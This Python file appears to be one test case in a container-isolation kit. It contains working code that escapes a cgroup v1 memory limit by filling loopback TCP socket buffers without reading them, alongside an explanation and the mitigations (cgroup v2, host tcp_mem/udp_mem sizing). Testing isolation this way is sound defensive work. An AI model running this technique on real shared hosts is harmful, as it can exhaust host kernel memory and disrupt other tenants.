ATTACK = {
    "title": "Hold memory in socket buffers the memory limit does not count",
    "category": "memory",
    "control": "memory",
    "known_limit": {
        "cgroup": "1",
        "why": "cgroup v1 charges TCP socket buffers to a container only once memory.kmem.tcp.limit_in_bytes "
               "is set, and neither Docker 20.10 nor runc sets it; cgroup v2 charges them to the memory "
               "limit. Loopback UDP receive queues are not charged on cgroup v1 either (the README's threat "
               "model). What closes it here: a cgroup v2 host, or host-wide net.ipv4.tcp_mem and udp_mem sized "
               "so that no one container can reach them.",
    },
    "hardened": "on cgroup v1 loopback TCP buffers are not charged: the run queues more than its 128 MiB limit (a "
                "known limit)",
    "ablated": "with no memory limit at all, the same buffers queue the same way",
    "expect": {
        "hardened": {"status": "ok", "report": {"achieved": True}},
        "ablated": {"status": "ok", "report": {"achieved": True}},
    },
    "explain": """
        The memory limit counts the pages a container's processes own. On cgroup v1 it does
        not count the kernel's TCP buffers, unless the engine also sets the cgroup's TCP limit,
        which Docker 20.10 does not. So a program that opens loopback connections to itself and
        writes without ever reading queues data in kernel memory that its own limit never sees,
        up to the whole host's TCP budget (net.ipv4.tcp_mem, shared by every socket on the
        machine). AF_UNIX buffers are charged, and their owner is killed by the OOM killer;
        TCP ones are not, and neither are loopback UDP receive queues: datagrams sent to a
        socket that never reads wait in kernel memory up to the host's net.ipv4.udp_mem (the
        README's threat model shows it with a one-line command; this attack uses TCP). The kit
        cannot close this on cgroup v1: the scorecard shows it as not contained, with why. The
        attack stops at 160 MiB queued, above the 128 MiB limit.
    """,
}

import json
import socket

GOAL = 160 * 1024 * 1024
CHUNK = b"x" * (256 * 1024)

listener = socket.socket()
listener.bind(("127.0.0.1", 0))
listener.listen(64)
queued, pairs = 0, []
while queued < GOAL and len(pairs) < 100:
    client = socket.create_connection(listener.getsockname())
    server, _ = listener.accept()          # accepted, and never read
    client.setblocking(False)
    pairs.append((client, server))
    while queued < GOAL:
        try:
            queued += client.send(CHUNK)
        except BlockingIOError:
            break                          # this connection's buffers are full: open another


def charged():
    for path in ("/sys/fs/cgroup/memory/memory.usage_in_bytes", "/sys/fs/cgroup/memory.current"):
        try:
            with open(path) as f:
                return int(f.read()) // (1024 * 1024)
        except OSError:
            pass
    return None


facts = {"queued_mib": queued // (1024 * 1024), "connections": len(pairs), "charged_mib": charged()}
facts["achieved"] = queued > 128 * 1024 * 1024
print("ATTACK_REPORT " + json.dumps(facts))
